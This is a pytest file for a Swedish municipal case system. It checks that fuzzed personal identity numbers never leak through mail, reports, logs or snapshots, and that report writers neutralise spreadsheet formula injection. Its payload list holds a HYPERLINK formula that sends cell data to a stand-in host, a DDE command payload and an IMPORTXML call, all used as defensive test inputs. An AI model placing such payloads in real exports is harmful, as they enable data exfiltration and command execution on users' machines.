"""No personal data out: fuzzed personnummer and samordningsnummer, written the ways people
write them (fixed seed), planted in every text field of decisions, in officer fields and in
case references, then run through the whole chain as a municipality would: import -> check
-> notify (a real SMTP server on loopback) -> the IVO files (CSV, XLSX, PDF read back with
pdftotext), the committee's pack -> a calendar -> the audit log -> the web snapshot.

Every outbound or stored channel is searched three ways: the scanner, each planted form as
written, and each number's ten digits with the spaces and dashes between digits removed. The count must
be 0.
The facts tables themselves (the registers' own data, such as a reason or a note) and the
engine's working table of fact context (``deadlines``) are the source, not a channel: they
are not served, sent or logged.

A second trial writes formula payloads through every report writer and reads each XLSX back
with openpyxl: no cell is a formula, and every CSV cell that starts like one is quoted.
"""

from __future__ import annotations

import csv
import io
import json
import random
import re
import sqlite3
from pathlib import Path

import pytest
from conftest import SV_HEADERS, Bevaka, config_text, write_csv
from openpyxl import load_workbook
from pnr_forms import DASHES, SPACES, random_form
from report_tools import pdf_text
from smtp_server import SmtpServer, smtp_server  # noqa: F401 - the fixture
from trials import report, size

from bevaka.app import Bevaka as App
from engine.config import load_config
from facts.personnummer import find_personnummer

SEED = 8
AS_OF = "2024-12-31"
HEADERS = [*SV_HEADERS, "Orsak", "Anteckning"]
OFFICERS = 40
# spaces and dashes between two digits are dropped; then a run of 10+ digits that does not
# touch a letter (a hash, a run id) is compared, window by window, with the planted numbers
_SQUASH = re.compile(
    "(?<=\\d)[" + re.escape("".join(DASHES + SPACES) + "+\u00ad\u2060\ufeff") + "]+(?=\\d)")
_RUN = re.compile(r"(?<![0-9A-Za-z])\d{10,}(?![0-9A-Za-z])")


class Leaks:
    """The planted forms and their ten digits; counts what a text still carries."""

    def __init__(self, forms: list[tuple[str, str]]) -> None:
        self.written = {f for f, _ in forms}
        self.tens = {t for _, t in forms}
        self.by_channel: dict[str, int] = {}
        self.samples: list[str] = []

    def hits(self, text: str) -> list[str]:
        """What ``text`` carries: found by the scanner, as written, or by its ten digits."""
        found = find_personnummer(text) + [f for f in self.written if f in text]
        for run in _RUN.findall(_SQUASH.sub("", text)):
            found += [run[i:i + 10] for i in range(len(run) - 9) if run[i:i + 10] in self.tens]
        return found

    def count(self, text: str) -> int:
        return len(self.hits(text))

    def check(self, channel: str, text: str) -> None:
        hits = self.hits(text)
        self.by_channel[channel] = self.by_channel.get(channel, 0) + len(hits)
        for h in hits[:2]:
            at = text.find(h) if h in text else -1
            self.samples.append(f"{channel}: {h!r} in {text[max(0, at - 80):at + 40]!r}")


def _phrase(rng: random.Random, forms: list[tuple[str, str]], n: int) -> str:
    words = ["flyttade", "se", "avser", "pnr", "enligt", "och", "samt"]
    return " ".join(f"{rng.choice(words)} {forms.pop()[0]}" for _ in range(n) if forms)


def _plant(rng: random.Random, n: int) -> tuple[list[tuple[str, str]], list[list[str]],
                                                list[list[str]], list[list[str]]]:
    """``n`` forms: every form once, in good rows (area, service, reason, note) or bad rows
    (a case reference, an officer). Returns (forms, good rows, bad ref rows, bad officer rows)."""
    forms = [random_form(rng) for _ in range(n)]
    queue = list(forms)
    rng.shuffle(queue)
    bad_refs, bad_officers, good = [], [], []
    base = ["", "SoL", "ÄO", "hemtjänst", "2024-05-02", "", "", "", "Kvinna", "1940", "", "", ""]
    for i in range(n // 10):
        row = list(base)
        row[0], row[10] = f"D-{queue.pop()[0]}", f"h{i % OFFICERS}@kommun.example"
        bad_refs.append(row)
    for i in range(n // 10):
        row = list(base)
        row[0], row[10] = f"D-2024-{i:05d}", rng.choice([queue.pop()[0], f"{queue.pop()[0]}@x.se"])
        bad_officers.append(row)
    i = 0
    while queue:
        row = list(base)
        row[0] = f"D-2024-{i:05d}"
        row[1] = rng.choice(["SoL", "LSS"])
        row[4] = f"2024-0{rng.randint(3, 6)}-{rng.randint(10, 28)}"
        row[10] = f"h{i % OFFICERS}@kommun.example"
        row[2] = rng.choice(["ÄO", "FSO", "IFO"]) + (" " + _phrase(rng, queue, 1)
                                                     if rng.random() < 0.2 else "")
        row[3] = rng.choice(["hemtjänst", "SÄBO", "ledsagarservice"]) + (
            " " + _phrase(rng, queue, 2) if rng.random() < 0.5 else "")
        row[11], row[12] = _phrase(rng, queue, 2), _phrase(rng, queue, 2)
        good.append(row)
        i += 1
    return forms, good, bad_refs, bad_officers


def _sheets(path: Path) -> str:
    wb = load_workbook(path)
    cells = [c for ws in wb.worksheets for r in ws.iter_rows() for c in r]
    assert all(c.data_type != "f" for c in cells), path
    return " | ".join(str(c.value) for c in cells if c.value is not None)


def _db_text(path: Path, tables: list[str] | None = None) -> str:
    conn = sqlite3.connect(path)
    try:
        names = tables or [n for (n,) in conn.execute(
            "SELECT name FROM sqlite_master WHERE type = 'table'")]
        out = []
        for name in names:
            for row in conn.execute(f'SELECT * FROM "{name}"'):
                out.append(" | ".join(str(v) for v in row if v is not None))
        return "\n".join(out)
    finally:
        conn.close()


#: The database's channels: what is logged, queued, sent or published (not the facts).
STORED = ["audit_log", "outbox", "notification_log", "finding_state", "notified", "run_state",
          "heartbeats"]


def test_no_fuzzed_personnummer_leaves_through_any_channel(
        tmp_path: Path, smtp_server: SmtpServer) -> None:  # noqa: F811
    n = size(2000, 10_000)
    rng = random.Random(SEED)
    forms, good, bad_refs, bad_officers = _plant(rng, n)
    leaks = Leaks(forms)
    config = tmp_path / "config.toml"
    roles = "".join(f'h{i} = "h{i}@kommun.example"\n' for i in range(OFFICERS))
    config.write_text(config_text(extra=(
        f"{roles}[smtp]\nhost = \"127.0.0.1\"\nport = {smtp_server.port}\n"
        "[notify]\nmax_items = 1000\n")), encoding="utf-8")
    bevaka = Bevaka(tmp_path, tmp_path / "bevaka.db", config)

    # import: a file with a personnummer in a case reference or an officer is refused, one
    # line per row, and the message never repeats the number
    for name, rows in (("arenden", bad_refs), ("handlaggare", bad_officers)):
        result = bevaka.run("import", str(write_csv(tmp_path / f"{name}.csv", HEADERS, rows)))
        assert result.exit_code == 1
        problems = re.findall(r"rad \d+, kolumn [^:]+: [^\n]*personnummer", result.output)
        assert len(problems) == len(rows), result.output[-500:]
        leaks.check("import (stderr)", result.output)
    meeting = tmp_path / "moten.yaml"
    meeting.write_text("meeting:\n  - {body: VON, date: 2025-01-15}\n", encoding="utf-8")
    # a free-text column holding one is refused at import as well (issue 7), each row named
    result = bevaka.run("import", str(write_csv(tmp_path / "beslut.csv", HEADERS, good)))
    assert result.exit_code == 1 and "inget importerades" in result.output
    leaks.check("import (stderr)", result.output)
    # so the outbound channels are tried with the texts stored behind import's back (a
    # database written before this version): the rows imported without them, then the
    # planted texts written into the register's own columns before the first check
    clean = [[*r[:2], r[2].split(" ")[0], r[3].split(" ")[0], *r[4:11], "", ""] for r in good]
    bevaka.ok("import", str(write_csv(tmp_path / "beslut-utan.csv", HEADERS, clean)), str(meeting))
    conn = sqlite3.connect(bevaka.db_path)
    with conn:
        conn.executemany("UPDATE decisions SET area = ?, service = ?, reason = ?, note = ? "
                         "WHERE id = ?", [(r[2], r[3], r[11], r[12], r[0]) for r in good])
    conn.close()

    # the control: the register itself does hold every planted free-text form, and the
    # search finds each of them there
    planted = len(forms) - len(bad_refs) - len(bad_officers)
    assert leaks.count(_db_text(bevaka.db_path, ["decisions"])) >= planted

    checked = bevaka.ok("check", "--as-of", AS_OF, "--json")
    assert len(json.loads(checked.stdout)) >= len(good)
    leaks.check("check --json", checked.output)
    sent = bevaka.run("notify", "--as-of", AS_OF)
    leaks.check("notify (stdout)", sent.output)
    assert len(smtp_server.received) >= OFFICERS // 2, sent.output
    for m in smtp_server.messages:
        leaks.check("e-post", "\n".join(f"{k}: {v}" for k, v in m.items()))
        for part in m.walk():
            if part.get_content_maintype() == "text":
                leaks.check("e-post", part.get_content())

    out = tmp_path / "ut"
    for args in (["ivo", "--quarter", "2024Q4", "--format", "csv,xlsx,pdf"],
                 ["kf", "--quarter", "2024Q4", "--format", "csv,xlsx"],
                 ["revision", "--quarter", "2024Q4", "--format", "csv,xlsx"],
                 ["individrapport", "--quarter", "2024Q4", "--format", "xlsx"],
                 ["namnd", "--meeting", "2025-01-15"]):
        leaks.check(f"report {args[0]} (stdout)",
                    bevaka.ok("report", *args, "--out", str(out / args[0])).output)
    files = sorted(p for p in out.rglob("*") if p.is_file())
    assert {p.suffix for p in files} >= {".csv", ".xlsx", ".pdf", ".html"}
    for p in files:
        text = {".xlsx": _sheets, ".pdf": pdf_text}.get(p.suffix, lambda q: q.read_text("utf-8"))(p)
        leaks.check(f"report {p.parent.name} {p.suffix}", text)
        if p.suffix == ".csv":
            assert p.read_bytes().startswith(b"\xef\xbb\xbf"), p
    assert "[personnummer borttaget]" in (out / "ivo" / "ivo-2024Q4.csv").read_text("utf-8-sig")

    ics = tmp_path / "h0.ics"
    leaks.check("kalender (stdout)",
                bevaka.ok("ics", "--role", "h0@kommun.example", "--out", str(ics)).output)
    leaks.check("kalender", ics.read_text("utf-8"))
    leaks.check("lagrad (databasen)", _db_text(bevaka.db_path, STORED))
    for anchor in tmp_path.glob("*.anchor"):  # the audit log's head, beside the database
        leaks.check("ankare", anchor.read_text("utf-8"))
    assert bevaka.ok("audit", "verify").exit_code == 0

    app = App(load_config(config), bevaka.db_path)
    snap = tmp_path / "snapshot.db"
    assert app.web_snapshot(snap)["ok"]
    leaks.check("webb (ögonblicksbild)", _db_text(snap))

    total = sum(leaks.by_channel.values())
    report("personnummer i utgående och lagrade kanaler", len(forms), total,
           channels=len(leaks.by_channel), messages=len(smtp_server.received),
           rejected_rows=len(bad_refs) + len(bad_officers))
    assert total == 0, ({k: v for k, v in leaks.by_channel.items() if v}, leaks.samples[:6])


PAYLOADS = ['=HYPERLINK("http://x.example/?q="&A1,"klicka")', "=cmd|' /C calc'!A0", "+1+1",
            "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "=1+1", '=IMPORTXML("http://x","//a")']


def test_no_report_writer_writes_a_formula(tmp_path: Path) -> None:
    """Every payload in every text field that reaches a report: XLSX cells are never formulas
    (openpyxl reads each back), CSV cells that begin like a formula begin with ``'``."""
    config = tmp_path / "config.toml"
    config.write_text(config_text(), encoding="utf-8")
    bevaka = Bevaka(tmp_path, tmp_path / "bevaka.db", config)
    rows = [[f"F-{i}", "SoL", p, p, "2024-05-02", "", "", "", "Man", "1941", "bistand_ao", p, p]
            for i, p in enumerate(PAYLOADS)]
    meeting = tmp_path / "moten.yaml"
    meeting.write_text("meeting:\n  - {body: VON, date: 2025-01-15}\n", encoding="utf-8")
    bevaka.ok("import", str(write_csv(tmp_path / "f.csv", HEADERS, rows)), str(meeting))
    out = tmp_path / "ut"
    for args in (["ivo", "--quarter", "2024Q4", "--format", "csv,xlsx"],
                 ["kf", "--quarter", "2024Q4", "--format", "csv,xlsx"],
                 ["revision", "--quarter", "2024Q4", "--format", "csv,xlsx"],
                 ["individrapport", "--quarter", "2024Q4", "--format", "xlsx"],
                 ["avgift", "--as-of", AS_OF, "--format", "csv,xlsx"],
                 ["namnd", "--meeting", "2025-01-15"]):
        bevaka.ok("report", *args, "--out", str(out / args[0]))
    for fmt in ("csv", "xlsx"):
        bevaka.ok("check", "--as-of", AS_OF, "--format", fmt, "--out", str(out / f"check.{fmt}"))
    xlsx, csvs = sorted(out.rglob("*.xlsx")), sorted(out.rglob("*.csv"))
    assert len(xlsx) >= 7 and len(csvs) >= 5
    formulas = seen = 0
    for path in xlsx:
        for ws in load_workbook(path).worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    formulas += cell.data_type == "f"
                    seen += isinstance(cell.value, str) and cell.value in PAYLOADS
    raw = 0
    for path in csvs:
        for row in csv.reader(io.StringIO(path.read_text("utf-8-sig")), delimiter=";"):
            raw += sum(1 for v in row if v.startswith(("=", "+", "-", "@", "\t", "\r")))
    report("formelinjektion i rapporter", len(PAYLOADS) * (len(xlsx) + len(csvs)),
           formulas + raw, xlsx=len(xlsx), csv=len(csvs), payload_cells=seen)
    assert seen > 0  # the payloads did reach the sheets, as text
    assert formulas == 0 and raw == 0


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_one_writer_quotes_each_payload(tmp_path: Path, payload: str) -> None:
    from notifications.reports.export import Column, Table, csv_cell, write_xlsx
    from notifications.reports.ivo_tables import Table as IvoTable
    from notifications.reports.ivo_tables import write_xlsx as ivo_xlsx

    assert csv_cell(payload) == "'" + payload
    t = Table("T", [Column("Text", "t")], [{"t": payload}])
    for path in (write_xlsx([t], tmp_path / "a.xlsx"),
                 ivo_xlsx(tmp_path / "b.xlsx", [IvoTable("T", "titel", ["Text"], [[payload]])])):
        cells = [c for r in load_workbook(path).worksheets[0].iter_rows() for c in r]
        assert payload in [c.value for c in cells] and all(c.data_type != "f" for c in cells)
